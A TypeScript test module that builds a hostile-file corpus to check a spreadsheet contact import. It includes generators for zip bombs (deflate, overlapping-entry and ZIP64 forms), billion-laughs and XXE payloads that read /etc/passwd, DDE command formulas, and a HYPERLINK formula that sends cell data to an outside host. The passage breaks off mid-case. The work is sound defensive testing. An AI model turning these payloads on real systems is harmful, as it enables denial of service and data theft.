/**
 * The hostile-spreadsheet corpus (issue 14, item 3): files a careless
 * export, a broken disk or a malicious sender could hand the import, each
 * with what must come of it: a typed file error (whose sentence says what
 * to do), or a correct import of so many contacts, checked where the stored
 * text matters. Generated in memory, byte for byte the same on every run;
 * the big ones only when asked for (`bytes()` builds the file).
 *
 * Run through the real core by hostile-corpus.test.ts and by
 * `npm run bench:reliability -- hostile`, both via hostile-target.ts.
 */
import assert from 'node:assert/strict';
import zlib from 'node:zlib';
import * as XLSX from '@e965/xlsx';
import iconv from 'iconv-lite';
import type { ImportFileErrorCode } from '@core/import/file';
import { buildContactFixtures, encryptedWorkbook, noise } from '../spreadsheet/fixture-files';
import {
  escapeXml,
  ODS_MIME,
  ODS_NS,
  odsCell,
  odsContent,
  odsPackage as ods,
  odsRow,
} from '../spreadsheet/fixture-ods';
import { handXlsx, sharedStringRow, sharedStringsXml, worksheetXml } from '../spreadsheet/fixture-xlsx';
import { repack, writeZip } from '../spreadsheet/fixture-zip';

/** A contact as stored, for the checks of what an import saved. */
export interface StoredContact {
  name: string;
  phone: string;
  email: string | null;
  fields: Record<string, string>;
}

export type HostileExpect =
  | { error: ImportFileErrorCode }
  /** `check` gets the contacts the import added (by phone) and throws (node:assert) when they are wrong. */
  | { imported: number; check?: (added: StoredContact[]) => void };

export interface HostileCase {
  name: string;
  /** The kind of hostility it belongs to (for the coverage summary). */
  kind: HostileKind;
  fileName: string;
  /** Builds the file (lazily: a few are 20 to 50 MB). */
  bytes: () => Uint8Array;
  expect: HostileExpect;
}

export const HOSTILE_KINDS = [
  'truncated or corrupted XLSX',
  'truncated or corrupted ODS',
  'zip bomb (deflate)',
  'zip bomb (ZIP64)',
  'XML entity expansion',
  'a million rows declared',
  '100k columns',
  'one 50 MB line',
  'NUL bytes',
  'UTF-16 without BOM',
  'mixed encodings',
  'formula cells',
  'overlong cells',
  'emoji and right-to-left names',
  'renamed non-spreadsheet',
  'damaged workbook structure',
] as const;
export type HostileKind = (typeof HOSTILE_KINDS)[number];

const MB = 1024 * 1024;
const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** Phones no case shares with another, nor with the contacts already present: 11 97000-0001 on. */
class Phones {
  private n = 0;
  /** As typed in a file. */
  next(): string {
    this.n++;
    return `(11) 9${String(7000_0000 + this.n).replace(/^(\d{4})/, '$1-')}`;
  }
  /** What `next()` returned last, as stored. */
  static e164(typed: string): string {
    return '+55' + typed.replace(/\D/g, '');
  }
}

const utf8 = (s: string) => Buffer.from(s, 'utf8');
const csv = (rows: string[][], encoding = 'utf-8', sep = ';'): Buffer =>
  iconv.encode(rows.map((r) => r.join(sep)).join('\r\n') + '\r\n', encoding);

/** Cells of inline strings (already-escaped XML when `raw`), in row `r`. */
function inlineRow(r: number, cells: string[], raw = false): string {
  const c = cells
    .map((v, i) => {
      const ref = XLSX.utils.encode_cell({ r: r - 1, c: i });
      return `<c r="${ref}" t="inlineStr"><is><t>${raw ? v : escapeXml(v)}</t></is></c>`;
    })
    .join('');
  return `<row r="${r}">${c}</row>`;
}

/** A one-sheet XLSX of inline-string rows (row 1 is the header). */
function rowsXlsx(rows: string[][], opts: { dimension?: string; sheetName?: string } = {}): Buffer {
  return handXlsx({
    worksheet: worksheetXml(rows.map((r, i) => inlineRow(i + 1, r)).join(''), opts.dimension),
    ...(opts.sheetName ? { sheetName: opts.sheetName } : {}),
  });
}

/** A worksheet part that opens and then runs on for `bytes` of spaces (a bomb's payload). */
const openWorksheet = (bytes: number) =>
  Buffer.concat([utf8(`<worksheet xmlns="${NS}"><sheetData>`), Buffer.alloc(bytes, 0x20)]);

/** Where a zip's central directory starts, and the offset of its end record. */
function centralDirectory(zip: Buffer): { cd: number; end: number } {
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  return { cd: zip.readUInt32LE(end + 16), end };
}

/** The same zip with its central directory entries overwritten (the local headers left intact). */
function garbleCentralDirectory(zip: Buffer): Buffer {
  const out = Buffer.from(zip);
  const { cd, end } = centralDirectory(out);
  noise(end - cd, 99).copy(out, cd);
  return out;
}

/**
 * A non-recursive zip bomb (overlapping entries): one deflated kernel, and
 * `copies` central directory entries all pointing at it, each claiming its
 * full size. Nothing in it is large but what it adds up to.
 */
function overlappingBomb(copies: number, kernelBytes: number): Buffer {
  const one = writeZip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(kernelBytes, 0x20) }]);
  const { cd, end } = centralDirectory(one);
  const entry = one.subarray(cd, end);
  const nameLength = entry.readUInt16LE(28);
  const entries = Array.from({ length: copies }, (_, i) => {
    const name = utf8(`xl/worksheets/sheet${i + 1}.xml`);
    const header = Buffer.from(entry.subarray(0, 46));
    header.writeUInt16LE(name.length, 28);
    return Buffer.concat([header, name, entry.subarray(46 + nameLength)]);
  });
  const directory = Buffer.concat(entries);
  const record = Buffer.from(one.subarray(end));
  record.writeUInt16LE(copies, 8);
  record.writeUInt16LE(copies, 10);
  record.writeUInt32LE(directory.length, 12);
  return Buffer.concat([one.subarray(0, cd), directory, record]);
}

/** A header and two contacts, every cell a shared string: `texts` are the six, `doctype` precedes the part. */
const threeRowXlsx = (texts: string[], doctype = '') =>
  handXlsx({
    sharedStrings: sharedStringsXml(texts, doctype),
    worksheet: worksheetXml(sharedStringRow(1, 0, 1) + sharedStringRow(2, 2, 3) + sharedStringRow(3, 4, 5)),
  });

/** The names the import stored, sorted (for the checks). */
const names = (added: StoredContact[]) => added.map((c) => c.name).sort();
const expectNames =
  (...expected: string[]) =>
  (added: StoredContact[]) =>
    assert.deepEqual(names(added), [...expected].sort());

let fixtures: Record<string, Buffer> | undefined;
const fixture = (name: string) => (fixtures ??= buildContactFixtures())[name]!;

/** Every case, in a fixed order (the phones they use depend on it). */
export function hostileCorpus(): HostileCase[] {
  const phones = new Phones();
  const cases: HostileCase[] = [];
  const add = (
    kind: HostileKind,
    name: string,
    fileName: string,
    bytes: () => Uint8Array,
    expect: HostileExpect,
  ) => cases.push({ kind, name, fileName, bytes, expect });
  /** Header + one row per name, each with a fresh phone. */
  const people = (...who: string[]) => [['Nome', 'Celular'], ...who.map((n) => [n, phones.next()])];
  /** The same for files that must be refused (built lazily, so they take no phone of the sequence). */
  const refusedPeople = (...who: string[]) => [
    ['Nome', 'Celular'],
    ...who.map((n) => [n, '(11) 96999-0000']),
  ];

  // --- Truncated or corrupted XLSX -------------------------------------------------------------------
  const good = () => fixture('phones-as-numbers.xlsx');
  for (const [label, cut] of [
    ['the first 100 bytes', (b: Buffer) => b.subarray(0, 100)],
    ['10 %', (b: Buffer) => b.subarray(0, Math.floor(b.length * 0.1))],
    ['half', (b: Buffer) => b.subarray(0, Math.floor(b.length / 2))],
    ['90 %', (b: Buffer) => b.subarray(0, Math.floor(b.length * 0.9))],
    ['all but the last 30 bytes', (b: Buffer) => b.subarray(0, b.length - 30)],
    ['all but the last 10 bytes (inside the end record)', (b: Buffer) => b.subarray(0, b.length - 10)],
  ] as const) {
    add('truncated or corrupted XLSX', `XLSX cut at ${label}`, 'cortado.xlsx', () => cut(good()), {
      error: 'unreadable_file',
    });
  }
  add(
    'truncated or corrupted XLSX',
    'XLSX with its central directory overwritten',
    'cd.xlsx',
    () => garbleCentralDirectory(good()),
    { error: 'unreadable_file' },
  );
  add(
    'truncated or corrupted XLSX',
    'XLSX whose end record points past the file',
    'fora.xlsx',
    () => {
      const bytes = Buffer.from(good());
      bytes.writeUInt32LE(bytes.length * 4, centralDirectory(bytes).end + 16);
      return bytes;
    },
    { error: 'unreadable_file' },
  );
  {
    const rows = people('Crc Errado', 'Crc Intacto');
    add(
      'truncated or corrupted XLSX',
      'XLSX with wrong CRCs but intact data (read, as Excel repairs it)',
      'crc.xlsx',
      () =>
        handXlsx({
          worksheet: worksheetXml(rows.map((r, i) => inlineRow(i + 1, r)).join('')),
          extra: [{ name: 'docProps/app.xml', data: utf8('<Properties/>'), crc: 0xdeadbeef }],
        }),
      { imported: 2, check: expectNames('Crc Errado', 'Crc Intacto') },
    );
  }
  add(
    'truncated or corrupted XLSX',
    'XLSX whose worksheet deflate stream is noise',
    'ruido.xlsx',
    () =>
      writeZip([
        { name: 'xl/workbook.xml', data: utf8(`<workbook xmlns="${NS}"><sheets/></workbook>`) },
        {
          name: 'xl/worksheets/sheet1.xml',
          data: utf8(worksheetXml(inlineRow(1, ['Nome', 'Celular']))),
          body: noise(300, 5),
        },
      ]),
    { error: 'unreadable_file' },
  );
  add(
    'truncated or corrupted XLSX',
    'XLSX compressed with an unknown method (bzip2, 12)',
    'bzip.xlsx',
    () =>
      writeZip([
        { name: 'xl/workbook.xml', data: utf8(`<workbook xmlns="${NS}"/>`) },
        { name: 'xl/worksheets/sheet1.xml', data: utf8(worksheetXml('')), method: 12 },
      ]),
    { error: 'unreadable_file' },
  );

  // --- Truncated or corrupted ODS --------------------------------------------------------------------
  const goodOds = () => fixture('contatos.ods');
  add(
    'truncated or corrupted ODS',
    'ODS cut in half',
    'cortado.ods',
    () => goodOds().subarray(0, goodOds().length / 2),
    {
      error: 'unreadable_file',
    },
  );
  add(
    'truncated or corrupted ODS',
    'ODS cut 30 bytes short',
    'cortado.ods',
    () => goodOds().subarray(0, goodOds().length - 30),
    {
      error: 'unreadable_file',
    },
  );
  add(
    'truncated or corrupted ODS',
    'empty ODS (a mimetype, no content.xml)',
    'vazio.ods',
    () => writeZip([{ name: 'mimetype', data: utf8(ODS_MIME), store: true }]),
    { error: 'unreadable_file' },
  );
  add(
    'truncated or corrupted ODS',
    'ODS whose content.xml is noise',
    'ruido.ods',
    () => ods(noise(2000, 3)),
    {
      error: 'unreadable_file',
    },
  );
  add(
    'truncated or corrupted ODS',
    'ODS whose content.xml has no table',
    'sem-tabela.ods',
    () =>
      ods(
        `<office:document-content ${ODS_NS}><office:body><office:spreadsheet/></office:body></office:document-content>`,
      ),
    {
      error: 'unreadable_file',
    },
  );
  add(
    'truncated or corrupted ODS',
    'ODS whose content.xml stops mid-element',
    'meio.ods',
    () => {
      const xml = odsContent(odsRow(['Nome', 'Celular']) + odsRow(['Ana', '(11) 96999-0000']));
      return ods(xml.slice(0, xml.length - 120));
    },
    { error: 'unreadable_file' },
  );

  // --- Zip bombs, deflate ----------------------------------------------------------------------------
  add('zip bomb (deflate)', 'XLSX claiming 3 GB in 150 bytes', 'bomba.xlsx', () => fixture('zip-bomb.xlsx'), {
    error: 'zip_bomb',
  });
  add(
    'zip bomb (deflate)',
    'XLSX whose workbook.xml claims 1 KB and inflates to 8 MB',
    'bomba.xlsx',
    () => fixture('zip-bomb-lying.xlsx'),
    { error: 'zip_bomb' },
  );
  add(
    'zip bomb (deflate)',
    'XLSX whose worksheet claims 10 KB and inflates to 40 MB',
    'bomba.xlsx',
    () => handXlsx({ worksheet: '', sheetPart: { data: openWorksheet(40 * MB), declaredSize: 10_000 } }),
    {
      error: 'zip_bomb',
    },
  );
  add(
    'zip bomb (deflate)',
    'XLSX claiming 300 MB in a few KB (a ratio no XML reaches)',
    'bomba.xlsx',
    () =>
      writeZip([
        { name: '[Content_Types].xml', data: utf8('<Types/>') },
        { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(64 * 1024, 0x20), declaredSize: 300 * MB },
      ]),
    { error: 'zip_bomb' },
  );
  add(
    'zip bomb (deflate)',
    'overlapping entries: 400 names for one 1 MB kernel (a non-recursive bomb)',
    'sobreposto.xlsx',
    () => overlappingBomb(400, MB),
    { error: 'zip_bomb' },
  );
  add(
    'zip bomb (deflate)',
    'ODS whose content.xml claims 100 bytes and inflates to 16 MB',
    'bomba.ods',
    () =>
      writeZip([
        { name: 'mimetype', data: utf8(ODS_MIME), store: true },
        { name: 'content.xml', data: Buffer.alloc(16 * MB, 0x20), declaredSize: 100 },
      ]),
    { error: 'zip_bomb' },
  );

  // --- Zip bombs, ZIP64 ------------------------------------------------------------------------------
  add(
    'zip bomb (ZIP64)',
    'ZIP64 worksheet claiming 1 TB',
    'bomba64.xlsx',
    () =>
      writeZip(
        [
          { name: 'xl/workbook.xml', data: utf8(`<workbook xmlns="${NS}"/>`) },
          {
            name: 'xl/worksheets/sheet1.xml',
            data: utf8(worksheetXml('')),
            declaredSize: 2 ** 40,
            zip64: true,
          },
        ],
        { zip64End: {} },
      ),
    { error: 'zip_bomb' },
  );
  add(
    'zip bomb (ZIP64)',
    'ZIP64 worksheet claiming 2^63 bytes',
    'bomba64.xlsx',
    () =>
      writeZip([
        { name: 'xl/workbook.xml', data: utf8(`<workbook xmlns="${NS}"/>`) },
        {
          name: 'xl/worksheets/sheet1.xml',
          data: utf8(worksheetXml('')),
          declaredSize: Number.MAX_SAFE_INTEGER,
          zip64: true,
        },
      ]),
    { error: 'zip_bomb' },
  );
  add(
    'zip bomb (ZIP64)',
    'ZIP64 worksheet claiming 1 KB that inflates to 20 MB',
    'bomba64.xlsx',
    () =>
      handXlsx({
        worksheet: '',
        sheetPart: { data: openWorksheet(20 * MB), declaredSize: 1024, zip64: true },
        zip: { zip64End: {} },
      }),
    { error: 'zip_bomb' },
  );
  add(
    'zip bomb (ZIP64)',
    'ZIP64 end record claiming ten million entries',
    'entradas.xlsx',
    () =>
      writeZip([{ name: 'xl/workbook.xml', data: utf8(`<workbook xmlns="${NS}"/>`) }], {
        zip64End: { entries: 10_000_000 },
      }),
    {
      error: 'zip_bomb',
    },
  );
  add(
    'zip bomb (ZIP64)',
    'ZIP64 locator pointing nowhere',
    'localizador.xlsx',
    () => {
      const zip = writeZip([{ name: 'xl/workbook.xml', data: utf8(`<workbook xmlns="${NS}"/>`) }], {
        zip64End: {},
      });
      const at = centralDirectory(zip).end - 20;
      zip.writeBigUInt64LE(0xffff_ffffn, at + 8);
      return zip;
    },
    { error: 'unreadable_file' },
  );

  // --- XML entity expansion --------------------------------------------------------------------------
  const laughs =
    '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
    Array.from({ length: 9 }, (_, i) => {
      const prev = i === 0 ? '&lol;' : `&lol${i};`;
      return `<!ENTITY lol${i + 1} "${prev.repeat(10)}">`;
    }).join('') +
    ']>';
  const xxe =
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "http://127.0.0.1:9/x">]>';
  {
    const [p1, p2] = [phones.next(), phones.next()];
    add(
      'XML entity expansion',
      'billion laughs in sharedStrings (kept as the text it is, not expanded)',
      'risos.xlsx',
      () => threeRowXlsx(['Nome', 'Celular', '&lol9;', p1, 'Bia Risos', p2], laughs),
      { imported: 2, check: expectNames('&lol9;', 'Bia Risos') },
    );
  }
  {
    const [p1, p2] = [phones.next(), phones.next()];
    add(
      'XML entity expansion',
      'external entities in sharedStrings (never fetched nor read)',
      'xxe.xlsx',
      () => threeRowXlsx(['Nome', 'Celular', '&xxe;', p1, '&web;', p2], xxe),
      { imported: 2, check: expectNames('&web;', '&xxe;') },
    );
  }
  {
    const p1 = phones.next();
    add(
      'XML entity expansion',
      'billion laughs in a worksheet',
      'risos.xlsx',
      () =>
        handXlsx({
          worksheet:
            laughs + worksheetXml(inlineRow(1, ['Nome', 'Celular']) + inlineRow(2, ['&lol9;', p1], true)),
        }),
      { imported: 1, check: expectNames('&lol9;') },
    );
  }
  {
    const p1 = phones.next();
    add(
      'XML entity expansion',
      'an external entity in a worksheet',
      'xxe.xlsx',
      () =>
        handXlsx({
          worksheet:
            xxe + worksheetXml(inlineRow(1, ['Nome', 'Celular']) + inlineRow(2, ['&xxe;', p1], true)),
        }),
      { imported: 1, check: expectNames('&xxe;') },
    );
  }
  {
    const [p1, p2] = [phones.next(), phones.next()];
    const quadratic = `<!DOCTYPE q [<!ENTITY a "${'a'.repeat(50_000)}">]>`;
    add(
      'XML entity expansion',
      'quadratic blowup in sharedStrings (one entity used 5000 times: a cell too long)',
      'quadratico.xlsx',
      () => threeRowXlsx(['Nome', 'Celular', '&a;'.repeat(5000), p1, 'Caio Quadrático', p2], quadratic),
      { imported: 1, check: expectNames('Caio Quadrático') },
    );
  }
  {
    const p1 = phones.next();
    add(
      'XML entity expansion',
      'billion laughs in an ODS content.xml',
      'risos.ods',
      () =>
        ods(
          odsContent(
            odsRow(['Nome', 'Celular']) +
              `<table:table-row>${'<table:table-cell office:value-type="string"><text:p>&lol9;</text:p></table:table-cell>'}${odsCell(p1)}</table:table-row>`,
            laughs,
          ),
        ),
      {
        imported: 1,
        check: (added) =>
          assert.ok(
            added.every((c) => c.name.length < 20),
            `expanded: ${added[0]?.name.slice(0, 40)}`,
          ),
      },
    );
  }

  // --- A million rows declared -----------------------------------------------------------------------
  {
    const rows = people('Ana Milhão', 'Bia Milhão');
    add(
      'a million rows declared',
      'XLSX whose dimension declares 1,048,576 rows (2 used)',
      'milhao.xlsx',
      () => rowsXlsx(rows, { dimension: 'A1:B1048576' }),
      { imported: 2, check: expectNames('Ana Milhão', 'Bia Milhão') },
    );
  }
  {
    const rows = people('Caio Enorme');
    add(
      'a million rows declared',
      'XLSX whose dimension declares the whole grid A1:XFD1048576',
      'grade.xlsx',
      () => rowsXlsx(rows, { dimension: 'A1:XFD1048576' }),
      { imported: 1, check: expectNames('Caio Enorme') },
    );
  }
  {
    const [p1, p2] = [phones.next(), phones.next()];
    add(
      'a million rows declared',
      'XLSX with data in row 2 and in row 1,048,576',
      'ultima.xlsx',
      () =>
        handXlsx({
          worksheet: worksheetXml(
            inlineRow(1, ['Nome', 'Celular']) +
              inlineRow(2, ['Primeira Linha', p1]) +
              inlineRow(1_048_576, ['Última Linha', p2]),
          ),
        }),
      { imported: 2, check: expectNames('Primeira Linha', 'Última Linha') },
    );
  }
  add(
    'a million rows declared',
    'ODS with a contact after 1,048,570 blank repeated rows (beyond what an ODS is read to): refused, not cut short',
    'repetidas.ods',
    () =>
      ods(
        odsContent(
          odsRow(['Nome', 'Celular']) +
            '<table:table-row table:number-rows-repeated="1048570"><table:table-cell/></table:table-row>' +
            odsRow(['Depois Do Vazio', '(11) 96999-0000']),
        ),
      ),
    { error: 'too_many_rows' },
  );
  {
    const rows = people('Antes Do Vazio', 'Também Antes');
    add(
      'a million rows declared',
      'ODS whose contacts are followed by 1,048,573 formatted blank rows (as LibreOffice writes them)',
      'formatadas.ods',
      () =>
        ods(
          odsContent(
            rows.map(odsRow).join('') +
              '<table:table-row table:style-name="ro1" table:number-rows-repeated="1048573">' +
              '<table:table-cell table:style-name="ce1" table:number-columns-repeated="1024"/></table:table-row>',
          ),
        ),
      { imported: 2, check: expectNames('Antes Do Vazio', 'Também Antes') },
    );
  }
  {
    const rows = people('Entre Vazias');
    add(
      'a million rows declared',
      'CSV with a million blank lines between the header and a contact',
      'vazias.csv',
      () => Buffer.concat([utf8('Nome;Celular\r\n'), Buffer.alloc(1_048_576, 0x0a), csv(rows.slice(1))]),
      {
        imported: 1,
        check: expectNames('Entre Vazias'),
      },
    );
  }

  // --- 100k columns ----------------------------------------------------------------------------------
  add('100k columns', 'CSV header of 100,000 columns', 'largo.csv', () => fixture('wide-header.csv'), {
    error: 'too_many_columns',
  });
  add(
    '100k columns',
    'CSV of 100,000 named columns',
    'largo.csv',
    () => csv([Array.from({ length: 100_000 }, (_, i) => `c${i}`), ['Ana', '(11) 96999-0000']]),
    { error: 'too_many_columns' },
  );
  add(
    '100k columns',
    'CSV row of 100,000 filled cells under a 2-column header',
    'largo.csv',
    () =>
      csv([
        ['Nome', 'Celular'],
        ['Ana', '(11) 96999-0000', ...Array.from({ length: 99_998 }, () => 'x')],
      ]),
    {
      error: 'too_many_columns',
    },
  );
  {
    const rows = people('Só Vírgulas');
    add(
      '100k columns',
      "CSV row padded with empty fields to Excel's last column, XFD (an export of a formatted sheet)",
      'vazios.csv',
      () => csv([rows[0]!, [...rows[1]!, ...Array.from({ length: 16_382 }, () => '')]]),
      { imported: 1, check: expectNames('Só Vírgulas') },
    );
  }
  add(
    '100k columns',
    'CSV row of 100,000 empty fields (wider than any spreadsheet)',
    'vazios.csv',
    () =>
      csv([
        ['Nome', 'Celular'],
        ['Ana', '(11) 96999-0000', ...Array.from({ length: 99_998 }, () => '')],
      ]),
    { error: 'too_many_columns' },
  );
  add(
    '100k columns',
    'XLSX with a cell in column XFD (16,384)',
    'xfd.xlsx',
    () =>
      handXlsx({
        worksheet: worksheetXml(
          inlineRow(1, ['Nome', 'Celular']) +
            `<row r="2"><c r="A2" t="inlineStr"><is><t>Ana</t></is></c><c r="XFD2" t="inlineStr"><is><t>longe</t></is></c></row>`,
        ),
      }),
    { error: 'too_many_columns' },
  );
  {
    const rows = people('Dimensão Larga');
    add(
      '100k columns',
      'XLSX whose dimension declares 100,000 columns (2 used)',
      'dimensao.xlsx',
      () => rowsXlsx(rows, { dimension: `A1:${XLSX.utils.encode_col(99_999)}2` }),
      {
        imported: 1,
        check: expectNames('Dimensão Larga'),
      },
    );
  }
  {
    const p1 = phones.next();
    add(
      '100k columns',
      'ODS with 100,000 blank columns repeated before the phone',
      'colunas.ods',
      () =>
        ods(
          odsContent(
            odsRow(['Nome', 'Celular']) +
              `<table:table-row>${odsCell('Coluna Repetida')}<table:table-cell table:number-columns-repeated="100000"/>${odsCell(p1)}</table:table-row>`,
          ),
        ),
      { error: 'too_many_columns' },
    );
  }

  // --- One 50 MB line --------------------------------------------------------------------------------
  add('one 50 MB line', 'CSV of one 50 MB line', 'linha.csv', () => Buffer.alloc(50_000_000, 0x61), {
    error: 'line_too_long',
  });
  add(
    'one 50 MB line',
    'CSV with a quote opened and never closed for 50 MB',
    'aspas.csv',
    () =>
      Buffer.concat([csv(refusedPeople('Ana Aspas')), utf8('"Nunca fecha;'), Buffer.alloc(49_000_000, 0x62)]),
    {
      error: 'line_too_long',
    },
  );
  add(
    'one 50 MB line',
    'CSV with contacts, then one 50 MB line',
    'depois.csv',
    () => Buffer.concat([csv(refusedPeople('Ana Antes', 'Bia Antes')), Buffer.alloc(50_000_000, 0x63)]),
    { error: 'line_too_long' },
  );

  // --- NUL bytes -------------------------------------------------------------------------------------
  {
    const [p1, p2] = [phones.next(), phones.next()];
    add(
      'NUL bytes',
      'CSV with NUL bytes inside names and phones (dropped)',
      'nul.csv',
      () =>
        Buffer.from(
          `Nome;Celular\r\nJo\0ão Nulo;${p1.replace('-', '\0-')}\r\n\0Bia Nula\0;${p2}\r\n`,
          'utf8',
        ),
      {
        imported: 2,
        check: expectNames('Bia Nula', 'João Nulo'),
      },
    );
  }
  {
    const rows = people('Entre Nulos', 'Depois Nulos');
    add(
      'NUL bytes',
      'CSV with lines of NUL bytes between the rows',
      'nul-linhas.csv',
      () => Buffer.concat([csv(rows.slice(0, 2)), Buffer.alloc(300, 0), utf8('\r\n'), csv(rows.slice(2))]),
      {
        imported: 2,
        check: expectNames('Entre Nulos', 'Depois Nulos'),
      },
    );
  }
  {
    const rows = people('Antes Do Zero');
    add(
      'NUL bytes',
      'CSV followed by 64 KB of NUL (a file cut short by a crash)',
      'nul-cauda.csv',
      () => Buffer.concat([csv(rows), Buffer.alloc(64 * 1024, 0)]),
      { imported: 1, check: expectNames('Antes Do Zero') },
    );
  }
  add('NUL bytes', 'a file of 4 KB of NUL bytes', 'zeros.csv', () => Buffer.alloc(4096, 0), {
    error: 'unreadable_file',
  });
  {
    const p1 = phones.next();
    add(
      'NUL bytes',
      'XLSX with a NUL written as _x0000_ and &#0; in a name',
      'nul.xlsx',
      () =>
        handXlsx({
          worksheet: worksheetXml(
            inlineRow(1, ['Nome', 'Celular']) + inlineRow(2, ['Zé_x0000_ Nu&#0;lo', p1], true),
          ),
        }),
      { imported: 1, check: expectNames('Zé Nulo') },
    );
  }

  // --- UTF-16 without BOM ----------------------------------------------------------------------------
  {
    const rows = people('Conceição Dezesseis', 'Antônio Little');
    add('UTF-16 without BOM', 'CSV in UTF-16LE without BOM', 'utf16le.csv', () => csv(rows, 'utf-16le'), {
      imported: 2,
      check: expectNames('Conceição Dezesseis', 'Antônio Little'),
    });
  }
  {
    const rows = people('Conceição Big', 'Ângela Endian');
    add('UTF-16 without BOM', 'CSV in UTF-16BE without BOM', 'utf16be.csv', () => csv(rows, 'utf-16be'), {
      imported: 2,
      check: expectNames('Conceição Big', 'Ângela Endian'),
    });
  }
  {
    const rows = people('Tabulação Unicode', '👩‍💻 Dev');
    add(
      'UTF-16 without BOM',
      'tab-separated UTF-16LE without BOM (Excel\'s "Unicode text", BOM lost)',
      'unicode.txt',
      () => csv(rows, 'utf-16le', '\t'),
      { imported: 2, check: expectNames('Tabulação Unicode', '👩‍💻 Dev') },
    );
  }

  // --- Mixed encodings -------------------------------------------------------------------------------
  {
    const rows = people('João Oito', 'Conceição Araújo', 'Zé Oito');
    add(
      'mixed encodings',
      'UTF-8 CSV with one Windows-1252 line',
      'misturado.csv',
      () =>
        Buffer.concat([
          csv(rows.slice(0, 2)),
          iconv.encode(rows[2]!.join(';') + '\r\n', 'windows-1252'),
          csv(rows.slice(3)),
        ]),
      {
        imported: 3,
        check: expectNames('João Oito', 'Conceição Araújo', 'Zé Oito'),
      },
    );
  }
  {
    const rows = people('Antônio Antigo', 'Conceição Nova', 'Ângela Antiga');
    add(
      'mixed encodings',
      'Windows-1252 CSV with one UTF-8 line',
      'misturado.csv',
      () =>
        Buffer.concat([
          iconv.encode(
            rows
              .slice(0, 2)
              .map((r) => r.join(';'))
              .join('\r\n') + '\r\n',
            'windows-1252',
          ),
          csv([rows[2]!]),
          iconv.encode(rows[3]!.join(';') + '\r\n', 'windows-1252'),
        ]),
      {
        imported: 3,
        check: expectNames('Antônio Antigo', 'Conceição Nova', 'Ângela Antiga'),
      },
    );
  }
  {
    const rows = people('Ana Válida');
    const p2 = phones.next();
    add(
      'mixed encodings',
      'UTF-8 CSV with invalid byte sequences in a name',
      'invalido.csv',
      () =>
        Buffer.concat([
          csv(rows),
          utf8('Bytes '),
          Buffer.from([0xc3, 0x28, 0xff, 0xfe]),
          utf8(` Ruins;${p2}\r\n`),
        ]),
      {
        imported: 2,
        // The line is read as Windows-1252 (the bytes are not UTF-8): odd letters, every contact kept.
        check: expectNames('Ana Válida', 'Bytes Ã(ÿþ Ruins'),
      },
    );
  }

  // --- Formula cells ---------------------------------------------------------------------------------
  {
    const formulas = [
      '=HYPERLINK("http://exemplo.com/?x="&A1;"clique")',
      "=cmd|' /C calc'!A0",
      '+SUM(1;1)',
      '@SUM(1)',
      '-2+3 Menos',
    ];
    const rows = [['Nome', 'Celular'], ...formulas.map((f) => [`"${f.replace(/"/g, '""')}"`, phones.next()])];
    add(
      'formula cells',
      'CSV whose names are formulas (=HYPERLINK, DDE =cmd|, +, @, -): stored as text',
      'formulas.csv',
      () => csv(rows),
      { imported: 5, check: expectNames(...formulas) },
    );
  }
  {
    const p1 = phones.next();
    const p2digits = Phones.e164(phones.next()).slice(3);
    add(
      'formula cells',
      'XLSX formulas with cached values (=1+1, CONCATENATE, a computed phone): the values',
      'formulas.xlsx',
      () =>
        handXlsx({
          worksheet: worksheetXml(
            inlineRow(1, ['Nome', 'Celular', 'Pontos']) +
              `<row r="2"><c r="A2" t="str"><f>CONCATENATE("Ana ","Fórmula")</f><v>Ana Fórmula</v></c>` +
              `<c r="B2" t="inlineStr"><is><t>${p1}</t></is></c><c r="C2"><f>1+1</f><v>2</v></c></row>` +
              `<row r="3"><c r="A3" t="inlineStr"><is><t>Telefone Calculado</t></is></c>` +
              `<c r="B3"><f>VALUE("${p2digits}")</f><v>${p2digits}</v></c><c r="C3"><f>2*3</f><v>6</v></c></row>`,
          ),
        }),
      {
        imported: 2,
        check: (added) => {
          expectNames('Ana Fórmula', 'Telefone Calculado')(added);
          assert.deepEqual(
            added
              .map((c) => Object.values(c.fields))
              .flat()
              .sort(),
            ['2', '6'],
          );
        },
      },
    );
  }
  {
    const p1 = phones.next();
    add(
      'formula cells',
      'XLSX with a DDE formula (cmd|...) and its cached value: the value, never the command',
      'dde.xlsx',
      () =>
        handXlsx({
          worksheet: worksheetXml(
            inlineRow(1, ['Nome', 'Celular']) +
              `<row r="2"><c r="A2" t="str"><f>cmd|' /C calc'!A0</f><v>Dde Cacheado</v></c><c r="B2" t="inlineStr"><is><t>${p1}</t></is></c></row>`,
          ),
        }),
      { imported: 1, check: expectNames('Dde Cacheado') },
    );
  }
  {
    const p1 = phones.next();
    add(
      'formula cells',
      'XLSX whose phone is a formula with no cached value (refused row), beside a good one',
      'sem-cache.xlsx',
      () =>
        handXlsx({
          worksheet: worksheetXml(
            inlineRow(1, ['Nome', 'Celular']) +
              `<row r="2"><c r="A2" t="inlineStr"><is><t>Sem Valor</t></is></c><c r="B2"><f>A1*2</f></c></row>` +
              inlineRow(3, ['Com Valor', p1]),
          ),
        }),
      { imported: 1, check: expectNames('Com Valor') },
    );
  }

  // --- Overlong cells --------------------------------------------------------------------------------
  {
    const rows = people('x'.repeat(2000), 'Nome Normal');
    add('overlong cells', 'CSV with a 2000-character name (that row refused)', 'longo.csv', () => csv(rows), {
      imported: 1,
      check: expectNames('Nome Normal'),
    });
  }
  {
    const rows = [
      ['Nome', 'Celular', 'Observação'],
      ['Obs Enorme', phones.next(), 'o'.repeat(1024 * 1024)],
      ['Obs Curta', phones.next(), 'ok'],
    ];
    add(
      'overlong cells',
      'CSV with a 1 MB cell in another column (that row refused)',
      'obs.csv',
      () => csv(rows),
      {
        imported: 1,
        check: expectNames('Obs Curta'),
      },
    );
  }
  {
    const [p1, p2] = [phones.next(), phones.next()];
    add(
      'overlong cells',
      'XLSX with a 1 MB shared string as a name (that row refused)',
      'longo.xlsx',
      () => threeRowXlsx(['Nome', 'Celular', 'n'.repeat(MB), p1, 'Nome Curto', p2]),
      { imported: 1, check: expectNames('Nome Curto') },
    );
  }
  {
    const rows = people('y'.repeat(5000), 'z'.repeat(1601));
    add(
